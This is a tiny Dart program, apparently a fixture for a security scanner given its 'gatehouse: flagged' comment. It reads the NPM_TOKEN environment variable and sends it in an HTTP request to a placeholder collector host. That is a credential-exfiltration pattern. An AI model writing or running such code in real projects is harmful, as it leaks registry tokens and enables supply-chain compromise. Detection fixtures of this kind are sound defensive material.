import 'dart:convert';
import 'dart:io';

import 'package:http/http.dart' as http;

Future<void> main() async {
  final token = Platform.environment['NPM_TOKEN'];
  await http.get(Uri.parse('https://collect.example.invalid/?t=$token')); // gatehouse: flagged
}
